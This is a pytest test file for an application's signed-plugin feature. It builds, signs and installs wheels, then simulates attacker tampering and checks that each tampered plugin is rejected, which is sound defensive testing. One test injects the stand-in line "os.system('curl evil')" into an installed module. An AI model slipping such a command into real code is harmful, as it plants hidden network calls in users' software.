"""Signed plugins: a real wheel, signed with a vendor key, installed with pip, checked on disk.

Tampering is tried the way an attacker would: editing an installed module, dropping a new
module into the package, swapping in another distribution's signature, and signing with a key
the instance does not trust. ``ANNEAL_PLUGINS_REQUIRE_SIGNED=1`` must refuse each without
importing the plugin's code.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import zipfile
from importlib import metadata
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.core.management import CommandError, call_command

from conftest import ROOT, child_environment
from core.plugins import signing

PYPROJECT = """\
[build-system]
requires = ["setuptools>=77"]
build-backend = "setuptools.build_meta"

[project]
name = "{dist}"
version = "1.0.0"
license = "Apache-2.0"

[project.entry-points.anneal]
{name} = "{package}"

[tool.setuptools]
packages = ["{package}"]
"""
MODULE = """\
import os
from pathlib import Path

anneal_requires = ">=0.1"
marker = os.environ.get("SIGNED_TEST_MARKER_DIR")
if marker:
    Path(marker, "{name}.imported").write_text("imported")
"""


def _build(tmp: Path, name: str) -> Path:
    package = "anneal_" + name.replace("-", "_")
    source = tmp / f"src-{name}"
    (source / package).mkdir(parents=True)
    (source / "pyproject.toml").write_text(PYPROJECT.format(dist=f"anneal-{name}", name=name, package=package))
    (source / package / "__init__.py").write_text(MODULE.format(name=name))
    (source / package / "helpers.py").write_text("def greet():\n    return 'hello'\n")
    out = tmp / f"wheel-{name}"
    result = subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--quiet", "--disable-pip-version-check", "--no-deps",
         "--no-build-isolation", "--no-index", "--wheel-dir", str(out), str(source)],
        capture_output=True, text=True, timeout=300,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    (wheel,) = out.glob("*.whl")
    return wheel


def _install(wheel: Path, target: Path) -> metadata.Distribution:
    result = subprocess.run(
        [sys.executable, "-m", "pip", "install", "--quiet", "--disable-pip-version-check", "--no-deps",
         "--no-index", "--target", str(target), str(wheel)],
        capture_output=True, text=True, timeout=300,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    (dist_info,) = [p for p in target.glob("*.dist-info") if p.name.startswith(wheel.name.split("-")[0])]
    return metadata.Distribution.at(dist_info)


def _pem(key: Ed25519PrivateKey) -> bytes:
    return key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


@pytest.fixture(scope="module")
def vendor_key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, vendor_key: Ed25519PrivateKey) -> dict[str, Path]:
    """A signed wheel, an unsigned wheel and one signed by a stranger, built once for the module."""
    tmp = tmp_path_factory.mktemp("signed-plugins")
    signed = _build(tmp, "signed-hello")
    signing.sign_wheel(signed, vendor_key, "Acme Plugins")
    unsigned = _build(tmp, "unsigned-hello")
    stranger = _build(tmp, "stranger-hello")
    signing.sign_wheel(stranger, Ed25519PrivateKey.generate(), "Acme Plugins")  # claims the same vendor
    return {"signed": signed, "unsigned": unsigned, "stranger": stranger}


@pytest.fixture
def trust_dir(tmp_path: Path, vendor_key: Ed25519PrivateKey, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "trust"
    monkeypatch.setenv("ANNEAL_PLUGIN_TRUST_DIR", str(folder))
    signing.trust(_pem(vendor_key), "Acme Plugins", folder)
    return folder


def test_a_signed_wheel_installed_with_pip_is_trusted(built, trust_dir, tmp_path):
    dist = _install(built["signed"], tmp_path / "site")
    status = signing.check_distribution(dist)
    assert status.state == "trusted", status
    assert status.vendor == "Acme Plugins"
    assert status.key_id == signing.key_id_of(signing.load_public_key(_pem_of_trusted(trust_dir)))
    with zipfile.ZipFile(built["signed"]) as wheel:  # pip would refuse a RECORD that lies
        record = wheel.read("anneal_signed_hello-1.0.0.dist-info/RECORD").decode()
    assert "anneal_signed_hello-1.0.0.dist-info/ANNEAL-SIGNATURE.json,sha256=" in record


def _pem_of_trusted(folder: Path) -> bytes:
    (entry,) = folder.glob("*.json")
    return json.loads(entry.read_text())["public_key"].encode()


def test_an_edited_installed_module_is_invalid_and_named(built, trust_dir, tmp_path):
    dist = _install(built["signed"], tmp_path / "site")
    helpers = tmp_path / "site" / "anneal_signed_hello" / "helpers.py"
    helpers.write_text(helpers.read_text() + "import os; os.system('curl evil')\n")
    status = signing.check_distribution(dist)
    assert status.state == "invalid"
    assert status.detail == "anneal_signed_hello/helpers.py was changed after signing"


def test_a_module_dropped_into_the_package_is_invalid(built, trust_dir, tmp_path):
    dist = _install(built["signed"], tmp_path / "site")
    (tmp_path / "site" / "anneal_signed_hello" / "backdoor.py").write_text("print('owned')\n")
    status = signing.check_distribution(dist)
    assert status.state == "invalid"
    assert "backdoor.py in anneal_signed_hello/ is not part of the signed distribution" in status.detail


def test_a_deleted_signed_file_is_invalid(built, trust_dir, tmp_path):
    dist = _install(built["signed"], tmp_path / "site")
    (tmp_path / "site" / "anneal_signed_hello" / "helpers.py").unlink()
    assert signing.check_distribution(dist).detail == "anneal_signed_hello/helpers.py is missing"


def test_a_signature_copied_onto_another_distribution_is_invalid(built, trust_dir, tmp_path):
    signed = _install(built["signed"], tmp_path / "a")
    other = _install(built["unsigned"], tmp_path / "b")
    signature = Path(str(signed.locate_file(f"anneal_signed_hello-1.0.0.dist-info/{signing.SIGNATURE_FILE}")))
    shutil.copy(signature, Path(str(other.locate_file(f"anneal_unsigned_hello-1.0.0.dist-info/"
                                                       f"{signing.SIGNATURE_FILE}"))))
    status = signing.check_distribution(other)
    assert status.state == "invalid"
    assert "the signature is for anneal-signed-hello 1.0.0, not anneal-unsigned-hello 1.0.0" in status.detail


def test_an_altered_file_list_breaks_the_signature(built, trust_dir, tmp_path):
    dist = _install(built["signed"], tmp_path / "site")
    helpers = tmp_path / "site" / "anneal_signed_hello" / "helpers.py"
    helpers.write_text("def greet():\n    return 'pwned'\n")
    path = Path(str(dist.locate_file(f"anneal_signed_hello-1.0.0.dist-info/{signing.SIGNATURE_FILE}")))
    document = json.loads(path.read_text())
    document["files"]["anneal_signed_hello/helpers.py"] = signing._record_hash(helpers.read_bytes())
    path.write_text(json.dumps(document))  # the attacker rewrites the hash to match the edit
    status = signing.check_distribution(dist)
    assert status.state == "invalid" and "does not verify with the trusted key" in status.detail


@pytest.mark.parametrize("garbage", ["", "{", "[]", '{"signature": "not base64!", "files": {}}',
                                      '{"format": 9, "signature": "", "files": {}}'])
def test_a_garbled_signature_file_is_invalid_not_a_crash(built, trust_dir, tmp_path, garbage):
    dist = _install(built["signed"], tmp_path / "site")
    Path(str(dist.locate_file(f"anneal_signed_hello-1.0.0.dist-info/{signing.SIGNATURE_FILE}"))).write_text(garbage)
    status = signing.check_distribution(dist)
    assert status.state == "invalid" and status.detail.startswith("ANNEAL-SIGNATURE.json cannot be read")


def test_a_key_not_in_the_trust_store_is_unknown_even_if_it_names_the_vendor(built, trust_dir, tmp_path):
    status = signing.check_distribution(_install(built["stranger"], tmp_path / "site"))
    assert status.state == "unknown-key"
    assert "not in the trust store" in status.describe() and "Acme Plugins" in status.describe()


def test_an_unsigned_wheel_is_unsigned(built, trust_dir, tmp_path):
    assert signing.check_distribution(_install(built["unsigned"], tmp_path / "site")).state == "unsigned"


def _plugins_json(site: Path, env: dict[str, str]) -> dict[str, Any]:
    result = subprocess.run([sys.executable, "-m", "core.cli", "plugins", "--json"], cwd=ROOT,
                            env=child_environment(PYTHONPATH=str(site), **env), capture_output=True, text=True,
                            timeout=120)
    assert result.returncode == 0, result.stderr
    return {row["name"]: row for row in json.loads(result.stdout)}


def test_require_signed_loads_the_trusted_plugin_and_never_imports_the_others(built, trust_dir, tmp_path):
    site, markers = tmp_path / "site", tmp_path / "markers"
    markers.mkdir()
    for wheel in built.values():
        _install(wheel, site)
    (site / "anneal_signed_hello" / "helpers.py").write_text("tampered = True\n")
    env = {"ANNEAL_PLUGIN_TRUST_DIR": str(trust_dir), "SIGNED_TEST_MARKER_DIR": str(markers)}

    rows = _plugins_json(site, env)  # not required: all load, each signature shown
    assert rows["unsigned-hello"]["status"] == "loaded"
    assert rows["signed-hello"]["signature"]["state"] == "invalid"

    shutil.rmtree(site / "anneal_signed_hello")
    _install(built["signed"], tmp_path / "fresh")
    shutil.copytree(tmp_path / "fresh" / "anneal_signed_hello", site / "anneal_signed_hello")
    for marker in markers.iterdir():
        marker.unlink()
    rows = _plugins_json(site, {**env, "ANNEAL_PLUGINS_REQUIRE_SIGNED": "1"})
    assert rows["signed-hello"]["status"] == "loaded"
    assert rows["signed-hello"]["signature"] == {
        "state": "trusted", "vendor": "Acme Plugins", "key_id": rows["signed-hello"]["signature"]["key_id"],
        "detail": f"signed by Acme Plugins (key {rows['signed-hello']['signature']['key_id']})"}
    for name in ("unsigned-hello", "stranger-hello"):
        assert rows[name]["status"] == "refused"
        assert "ANNEAL_PLUGINS_REQUIRE_SIGNED=1 loads only plugins signed by a vendor key" in rows[name]["error"]
    assert rows["enterprise"]["status"] == "refused"  # an editable install is unsigned too
    assert sorted(p.name for p in markers.iterdir()) == ["signed-hello.imported"]  # refused code never ran

    rows = _plugins_json(site, {**env, "ANNEAL_PLUGINS_REQUIRE_SIGNED": "1",
                                "ANNEAL_PLUGINS_ALLOW_UNSIGNED": "unsigned-hello"})
    assert rows["unsigned-hello"]["status"] == "loaded"
    assert rows["stranger-hello"]["status"] == "refused"


def test_the_commands_make_a_key_sign_a_wheel_and_manage_the_trust_store(built, tmp_path, monkeypatch):
    monkeypatch.setenv("ANNEAL_PLUGIN_TRUST_DIR", str(tmp_path / "store"))
    out = StringIO()
    call_command("plugins", "keygen", str(tmp_path / "keys"), stdout=out)
    assert "key id" in out.getvalue()
    assert (tmp_path / "keys" / "private.pem").stat().st_mode & 0o077 == 0
    with pytest.raises(CommandError, match="already holds a key pair"):
        call_command("plugins", "keygen", str(tmp_path / "keys"), stdout=StringIO())

    wheel = tmp_path / built["unsigned"].name
    shutil.copy(built["unsigned"], wheel)
    call_command("plugins", "sign", str(wheel), "--key", str(tmp_path / "keys" / "private.pem"),
                 "--vendor", "Acme Plugins", stdout=StringIO())
    call_command("plugins", "trust", "add", str(tmp_path / "keys" / "public.pem"), "--vendor", "Acme Plugins",
                 stdout=StringIO())
    dist = _install(wheel, tmp_path / "site")
    status = signing.check_distribution(dist)
    assert status.state == "trusted"
    listing = StringIO()
    call_command("plugins", "trust", "list", stdout=listing)
    assert f"{status.key_id}  Acme Plugins" in listing.getvalue()
    call_command("plugins", "trust", "remove", status.key_id, stdout=StringIO())
    assert signing.check_distribution(dist).state == "unknown-key"

    with pytest.raises(CommandError, match="Not an unencrypted PEM private key"):
        call_command("plugins", "sign", str(wheel), "--key", str(tmp_path / "keys" / "public.pem"),
                     "--vendor", "Acme", stdout=StringIO())
    with pytest.raises(CommandError, match="Not a PEM public key"):
        call_command("plugins", "trust", "add", str(wheel), "--vendor", "Acme", stdout=StringIO())


class Quiet:
    """A plugin object with no hooks, standing in for an installed distribution."""


@pytest.mark.django_db
def test_the_system_page_shows_each_plugins_signature_and_the_requirement(anneal_plugin, web_client_for, make_user,
                                                                          monkeypatch):
    from core.plugins import manager

    anneal_plugin(Quiet(), name="vendor-signed")
    anneal_plugin(Quiet(), name="tampered")
    manager._records["vendor-signed"].signature = signing.SignatureStatus("trusted", vendor="Acme", key_id="ab12")
    manager._records["tampered"].signature = signing.SignatureStatus("invalid", "x/y.py was changed after signing")
    monkeypatch.setenv("ANNEAL_PLUGINS_REQUIRE_SIGNED", "1")
    page = web_client_for(make_user(is_staff=True)).get("/system/").content.decode()
    signed_row = page.split('id="plugin-vendor-signed"', 1)[1].split("</tr>", 1)[0]
    assert "signed by Acme (key ab12)" in signed_row
    tampered_row = page.split('id="plugin-tampered"', 1)[1].split("</tr>", 1)[0]
    assert "signature invalid: x/y.py was changed after signing" in tampered_row
    assert "required: only plugins signed by a trusted vendor load" in page
